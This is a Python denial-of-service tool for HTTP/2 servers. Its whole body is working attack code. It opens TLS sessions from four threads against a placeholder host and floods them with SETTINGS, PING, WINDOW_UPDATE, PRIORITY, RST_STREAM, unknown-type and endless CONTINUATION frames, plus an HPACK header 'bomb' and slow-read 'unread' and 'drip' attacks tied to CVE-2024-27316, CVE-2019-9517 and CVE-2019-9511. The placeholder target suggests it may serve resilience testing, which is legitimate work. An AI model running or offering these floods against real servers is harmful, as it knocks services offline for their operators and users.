"""Floods a session of HTTP/2 with one kind of frame (RFC 9113) for a while, again and again in sessions anew where it is ended.

    attack-http2.py KIND SECONDS

Prints how many rounds of frames were sent, and how many sessions were ended by the other side.
"""

import socket
import ssl
import struct
import sys
import threading
import time

KIND, END = sys.argv[1], time.monotonic() + float(sys.argv[2])
HOST = "api.example.test"
SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 4, 6, 7, 8, 9
counts = {"rounds": 0, "ended": 0}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value


def head(path=b"/v1/a", method=b"GET", more=b""):
    pairs = ((b":method", method), (b":scheme", b"https"), (b":path", path), (b":authority", HOST.encode()))
    return b"".join(b"\0" + text(name) + text(value) for name, value in pairs) + more


def opened(settings=b"", reads=True):
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((HOST, 443), 5)
    if not reads:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    secure = context.wrap_socket(plain, server_hostname=HOST)
    assert secure.selected_alpn_protocol() == "h2"
    secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
    secure.settimeout(1)
    return secure


def drain(secure):
    """Takes what comes, so that only what is sent counts."""
    try:
        secure.settimeout(0.001)
        while secure.recv(65_536):
            pass
        raise EOFError
    except (TimeoutError, ssl.SSLWantReadError):
        pass
    finally:
        secure.settimeout(1)


def settings(secure, _):
    secure.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500)
    drain(secure)


def settings_unread(secure, _):
    secure.sendall(frame(SETTINGS, 0, 0) * 2_000)


def ping(secure, _):
    secure.sendall(frame(PING, 0, 0, b"12345678") * 500)
    drain(secure)


def ping_unread(secure, _):
    secure.sendall(frame(PING, 0, 0, b"12345678") * 2_000)


def continuation(secure, turn):
    """A block of header fields that never ends (CVE-2024-27316)."""
    if turn == 0:
        secure.sendall(frame(1, 1, 1, head()))
    secure.sendall(b"".join(frame(CONTINUATION, 0, 1, b"\0" + text(b"x-%d" % n) + text(b"y" * 100)) for n in range(200)))
    time.sleep(0.005)


def continuation_empty(secure, turn):
    if turn == 0:
        secure.sendall(frame(1, 1, 1, head()))
    secure.sendall(frame(CONTINUATION, 0, 1) * 2_000)
    time.sleep(0.005)


def bomb(secure, turn):
    """One long field in the table, and blocks that name it hundreds of times by a byte each (RFC 7541)."""
    long = b"\x40" + text(b"x-bomb") + bytes([127, 0xA1, 0x1E]) + b"z" * 4_000
    first = head(more=long) if turn == 0 else head()
    secure.sendall(frame(1, 5, 1 + 2 * turn, first + b"\xbe" * 2_000))
    drain(secure)


def empty_data(secure, turn):
    if turn == 0:
        secure.sendall(frame(1, 4, 1, head(method=b"POST", path=b"/echo")))
    secure.sendall(frame(0, 0, 1) * 2_000)
    drain(secure)


def priority(secure, _):
    secure.sendall(b"".join(frame(2, 0, 1 + 2 * n, struct.pack(">IB", 3 if n == 0 else 1, 10)) for n in range(500)))
    drain(secure)


def windows(secure, _):
    secure.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 2_000)
    drain(secure)


def unread(secure, turn):
    """Many long answers that are asked for and never read (CVE-2019-9517)."""
    if turn == 0:
        secure.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 65_536)))
        secure.sendall(b"".join(frame(1, 5, 1 + 2 * n, head(path=b"/bytes/100000000")) for n in range(100)))
    time.sleep(0.2)


def drip(secure, turn):
    """Answers that may come a byte at a time (CVE-2019-9511)."""
    if turn == 0:
        secure.sendall(b"".join(frame(1, 5, 1 + 2 * n, head(path=b"/bytes/1000000")) for n in range(100)))
    secure.sendall(b"".join(frame(WINDOW, 0, 1 + 2 * n, struct.pack(">I", 1)) for n in range(100)))
    drain(secure)


def unknown(secure, _):
    secure.sendall(frame(0xBB, 0, 0, b"x" * 16_000) * 20)


def bad(secure, _):
    secure.sendall(frame(3, 0, 1, b"1234") * 100)


FLOODS = {
    "settings": settings, "settings-unread": settings_unread, "ping": ping, "ping-unread": ping_unread, "continuation": continuation, "continuation-empty": continuation_empty,
    "bomb": bomb, "empty-data": empty_data, "priority": priority, "windows": windows, "unread": unread, "drip": drip, "unknown": unknown, "bad": bad,
}
WINDOW_OF = {"unread": struct.pack(">HI", 4, 2**31 - 1), "drip": struct.pack(">HI", 4, 1)}


def flood():
    while time.monotonic() < END:
        try:
            secure = opened(WINDOW_OF.get(KIND, b""), KIND not in ("unread", "settings-unread", "ping-unread"))
        except OSError:
            time.sleep(0.05)
            continue
        try:
            for turn in range(1_000_000):
                if time.monotonic() >= END:
                    break
                FLOODS[KIND](secure, turn)
                counts["rounds"] += 1
        except (OSError, ValueError, EOFError):
            counts["ended"] += 1
        finally:
            secure.close()


threads = [threading.Thread(target=flood) for _ in range(4)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(counts["rounds"], counts["ended"])
